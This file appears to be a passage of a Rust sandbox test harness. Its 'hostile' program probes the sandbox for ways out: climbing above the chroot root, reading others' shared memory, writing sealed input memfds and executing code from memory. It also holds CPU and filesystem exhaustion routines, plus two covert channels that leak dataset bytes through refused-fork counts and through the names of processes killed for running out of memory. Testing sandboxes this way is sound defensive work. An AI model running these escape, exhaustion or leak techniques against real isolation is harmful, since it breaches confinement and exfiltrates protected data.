                libc::syscall(libc::SYS_pidfd_send_signal, pidfd, 0, std::ptr::null::<libc::siginfo_t>(), 0)
            };
            let v = verdict(rc, "may signal the sandbox's init");
            close(pidfd);
            v
        },
    );
    // SAFETY: integer arguments.
    let rc = unsafe {
        libc::prctl(
            libc::PR_SET_MM,
            libc::PR_SET_MM_ARG_START as libc::c_ulong,
            0x1000 as libc::c_ulong,
            0,
            0,
        )
    };
    r.insert("prctl.set_mm".into(), verdict(rc.into(), "rewrote its memory map's description"));
    // SysV IPC: its own namespace, so nobody else's segment is there.
    const SHM_INFO: libc::c_int = 14;
    const SHM_STAT_ANY: libc::c_int = 15;
    let mut buf = [0u64; 64];
    // SAFETY: SHM_INFO writes a struct shm_info (smaller than `buf`).
    let highest = unsafe { libc::shmctl(0, SHM_INFO, buf.as_mut_ptr().cast()) };
    let others: Vec<i32> = (0..=highest.max(-1))
        // SAFETY: SHM_STAT_ANY writes a struct shmid_ds (smaller than `buf`).
        .filter(|&i| unsafe { libc::shmctl(i, SHM_STAT_ANY, buf.as_mut_ptr().cast()) } >= 0)
        .collect();
    r.insert(
        "ipc.others_segments".into(),
        if others.is_empty() {
            "blocked: no shared memory segment of anyone".into()
        } else {
            format!("ESCAPED sees SysV segments {others:?}")
        },
    );
}

/// The names in a directory, sorted.
fn listing(path: &str) -> Result<Vec<String>, String> {
    let mut names: Vec<String> = std::fs::read_dir(path)
        .map_err(|e| e.to_string())?
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    Ok(names)
}

/// Ways above the sandbox's root (in the VM it is entered with chroot over
/// the initramfs, whose files and the agent's work directory lie beneath),
/// and what the mount table shows.
fn way_out_of_the_root(r: &mut Report) {
    let root = listing("/").unwrap_or_default();
    for path in ["/..", "/../../..", "/proc/self/root/..", "/proc/self/cwd/../../..", "/results/../../.."] {
        r.insert(
            format!("root.above{path}"),
            match listing(path) {
                Ok(l) if l == root => "blocked: the same as /".into(),
                Ok(l) => format!("ESCAPED lists {l:?}"),
                Err(e) => format!("blocked: {e}"),
            },
        );
    }
    // Up from a directory descriptor, one `..` at a time.
    let mut up = Vec::new();
    // SAFETY: a NUL-terminated path; every descriptor is closed below.
    let mut fd =
        unsafe { libc::open(c"/results".as_ptr(), libc::O_PATH | libc::O_DIRECTORY | libc::O_CLOEXEC) };
    for _ in 0..16 {
        if fd < 0 {
            break;
        }
        // SAFETY: `fd` is ours; a NUL-terminated relative path.
        let parent =
            unsafe { libc::openat(fd, c"..".as_ptr(), libc::O_PATH | libc::O_DIRECTORY | libc::O_CLOEXEC) };
        // SAFETY: ours.
        unsafe { libc::close(fd) };
        fd = parent;
    }
    if fd >= 0 {
        up = listing(&format!("/proc/self/fd/{fd}")).unwrap_or_default();
        // SAFETY: ours.
        unsafe { libc::close(fd) };
    }
    r.insert(
        "root.above_by_descriptor".into(),
        if up == root { "blocked: the same as /".into() } else { format!("ESCAPED reached {up:?}") },
    );
    // The mount table shows only what is below this root.
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let expected = [
        "/",
        "/algorithm",
        "/datasets",
        "/artifacts",
        "/results",
        "/tmp",
        "/dev",
        "/dev/null",
        "/dev/zero",
        "/dev/urandom",
        "/proc",
    ];
    let foreign: Vec<&str> = mountinfo
        .lines()
        .filter_map(|l| l.split_whitespace().nth(4))
        .filter(|p| !expected.contains(p))
        .collect();
    r.insert(
        "mountinfo.foreign_mounts".into(),
        if foreign.is_empty() {
            "blocked: only the sandbox's own".into()
        } else {
            format!("ESCAPED {foreign:?}")
        },
    );
    // What the table says of where the mounts come from (the agent's paths).
    let sources: Vec<String> = mountinfo
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            Some(format!("{} <- {}", f.get(4)?, f.get(3)?))
        })
        .collect();
    r.insert("info.mount_sources".into(), format!("{sources:?}"));
}

/// The sealed inputs' memfds: read-only, for good.
fn sealed_inputs(r: &mut Report) {
    let mut tried = Vec::new();
    for fd in 3..1024 {
        let Ok(target) = std::fs::read_link(format!("/proc/self/fd/{fd}")) else { continue };
        if !target.to_string_lossy().contains("/memfd:") {
            continue;
        }
        let path = format!("/proc/self/fd/{fd}");
        let reopened = open_result(&path, libc::O_RDWR);
        // SAFETY: integer arguments on a descriptor we hold.
        let truncated = unsafe { libc::ftruncate(fd, 0) };
        // SAFETY: a shared writable mapping of one page, unmapped at once if made.
        let map = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                4096,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                fd,
                0,
            )
        };
        let mapped = if map == libc::MAP_FAILED {
            format!("blocked: {}", errno())
        } else {
            // SAFETY: the mapping just made.
            unsafe { libc::munmap(map, 4096) };
            "ESCAPED a writable shared mapping".into()
        };
        tried.push((fd, reopened, verdict(truncated.into(), "truncated"), mapped));
    }
    let escaped: Vec<String> = tried
        .iter()
        .filter(|(_, a, b, c)| [a, b, c].iter().any(|v| v.starts_with("ESCAPED")))
        .map(|t| format!("{t:?}"))
        .collect();
    r.insert(
        "sealed.write".into(),
        if tried.is_empty() {
            "blocked: no sealed input here".into()
        } else if escaped.is_empty() {
            format!("blocked: {} sealed inputs stay read-only", tried.len())
        } else {
            format!("ESCAPED {escaped:?}")
        },
    );
}

/// A program written into memory and executed: no noexec mount is in the way.
fn exec_from_memory(r: &mut Report) {
    let ran = in_child(
        || {
            // SAFETY: a NUL-terminated name; flags 0.
            let fd = unsafe { libc::memfd_create(c"run-me".as_ptr(), 0) };
            if fd < 0 {
                return 2;
            }
            let Ok(exe) = std::fs::read("/proc/self/exe") else { return 3 };
            // SAFETY: writes from a live buffer to our memfd.
            if unsafe { libc::write(fd, exe.as_ptr().cast(), exe.len()) } != exe.len() as isize {
                return 4;
            }
            let argv = [c"hostile".as_ptr(), c"noop".as_ptr(), std::ptr::null()];
            let envp = [std::ptr::null::<libc::c_char>()];
            // SAFETY: NUL-terminated argument and environment arrays that live for the call.
            unsafe {
                libc::syscall(
                    libc::SYS_execveat,
                    fd,
                    c"".as_ptr(),
                    argv.as_ptr(),
                    envp.as_ptr(),
                    libc::AT_EMPTY_PATH,
                )
            };
            5
        },
        "executed a program it wrote into a memfd",
    );
    r.insert("exec.memfd".into(), ran);
    // And a memfd that asks to be executable.
    const MFD_EXEC: libc::c_uint = 0x10;
    // SAFETY: a NUL-terminated name; the descriptor is closed below.
    let fd = unsafe { libc::memfd_create(c"run-me".as_ptr(), MFD_EXEC) };
    r.insert("memfd.exec_flag".into(), verdict(fd.into(), "an executable memfd (MFD_EXEC)"));
    if fd >= 0 {
        // SAFETY: ours.
        unsafe { libc::close(fd) };
    }
}

/// PROCS spinning processes, each in a session (and autogroup) of its own.
fn cpuhog(procs: usize, secs: u64) {
    let deadline = std::time::Instant::now() + Duration::from_secs(secs);
    let spin = || {
        let mut x = 1u64;
        while std::time::Instant::now() < deadline {
            for _ in 0..10_000 {
                x = std::hint::black_box(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1));
            }
        }
        x
    };
    let mut children = 0;
    for _ in 1..procs {
        // SAFETY: fork in a single-threaded program.
        match unsafe { libc::fork() } {
            0 => {
                // SAFETY: setsid takes no arguments: a new session, and with it a new autogroup.
                unsafe { libc::setsid() };
                std::hint::black_box(spin());
                // SAFETY: ends the child.
                unsafe { libc::_exit(0) }
            }
            pid if pid > 0 => children += 1,
            _ => break,
        }
    }
    spin();
    let mut status = 0;
    // SAFETY: reaps our own children until none is left.
    while unsafe { libc::waitpid(-1, &mut status, 0) } > 0 {}
    println!("hostile: {} spinning processes, each in its own session, for {secs}s", children + 1);
}

/// The longest paths the results can hold, in thousands of empty files.
fn deep_results() {
    let mut dir = std::path::PathBuf::from(results_dir());
    for c in 'a'..='m' {
        dir.push(c.to_string().repeat(255));
        if let Err(e) = std::fs::create_dir(&dir) {
            eprintln!("hostile: {}: {e}", dir.display());
            std::process::exit(1);
        }
    }
    let mut made = 0;
    for i in 0..16_000 {
        match std::fs::File::create(dir.join(format!("{i:05}{}", "f".repeat(250)))) {
            Ok(_) => made += 1,
            Err(e) => {
                eprintln!("hostile: file {i}: {e}");
                break;
            }
        }
    }
    println!("hostile: {made} empty files with paths of {} bytes", dir.as_os_str().len() + 256);
}

/// Encodes the first two bytes of the first dataset (by name) in the number
/// of forks the process limit refuses: the agent logs that number, and its
/// log goes to the host's operator.
fn covert() {
    let bytes = first_dataset_bytes(2);
    let secret =
        u32::from(bytes.first().copied().unwrap_or(0)) << 8 | u32::from(bytes.get(1).copied().unwrap_or(0));
    // Fill the process limit with sleepers; the first refusal counts.
    let mut sleepers = Vec::new();
    loop {
        // SAFETY: fork in a single-threaded program; children only sleep.
        match unsafe { libc::fork() } {
            0 => {
                std::thread::sleep(Duration::from_secs(600));
                // SAFETY: ends the child.
                unsafe { libc::_exit(0) }
            }
            pid if pid > 0 => sleepers.push(pid),
            _ => break,
        }
    }
    // secret more refusals: 1 + secret in all.
    let mut refused = 1u32;
    while refused < 1 + secret {
        // SAFETY: as above; a child that was not refused exits at once.
        match unsafe { libc::fork() } {
            0 => unsafe { libc::_exit(0) },
            pid if pid > 0 => {
                let mut status = 0;
                // SAFETY: reaps our own child.
                unsafe { libc::waitpid(pid, &mut status, 0) };
            }
            _ => refused += 1,
        }
    }
    for pid in sleepers {
        let mut status = 0;
        // SAFETY: kills and reaps our own children.
        unsafe {
            libc::kill(pid, libc::SIGKILL);
            libc::waitpid(pid, &mut status, 0);
        }
    }
    println!("hostile: {refused} forks refused");
}

/// The first dataset's (by name) first `n` bytes.
fn first_dataset_bytes(n: usize) -> Vec<u8> {
    let mut names: Vec<std::path::PathBuf> = std::fs::read_dir(datasets_dir())
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    names.sort();
    let mut bytes = names.first().and_then(|p| std::fs::read(p).ok()).unwrap_or_default();
    bytes.truncate(n);
    bytes
}

/// Four processes named `N` + 14 hex digits of the dataset's first 28 bytes,
/// each taking 48 MiB: together over the limit, so the kernel kills them
/// all (one out-of-memory group) and names each on its console.
fn oom_names() {
    let hex: String = first_dataset_bytes(28).iter().map(|b| format!("{b:02x}")).collect();
    let mut children = Vec::new();
    for (i, chunk) in hex.as_bytes().chunks(14).enumerate() {
        let name = format!("{i}{}", String::from_utf8_lossy(chunk));
        // SAFETY: fork in a single-threaded program.
        match unsafe { libc::fork() } {
            0 => {
                let Ok(c) = CString::new(name) else { std::process::exit(1) };
                // SAFETY: PR_SET_NAME reads a NUL-terminated string of at most 16 bytes.
                unsafe { libc::prctl(libc::PR_SET_NAME, c.as_ptr() as libc::c_ulong, 0, 0, 0) };
                let mut held: Vec<Vec<u8>> = Vec::new();
                for _ in 0..48 {
                    held.push(vec![0x5a; 1 << 20]);
                }
                std::thread::sleep(Duration::from_secs(600));
                std::process::exit(held.len() as i32 & 1);
            }
            pid if pid > 0 => children.push(pid),
            _ => eprintln!("hostile: fork refused: {}", errno()),
        }
    }
    for pid in children {
        let mut status = 0;
        // SAFETY: waits on our own child.
        unsafe { libc::waitpid(pid, &mut status, 0) };
    }
}
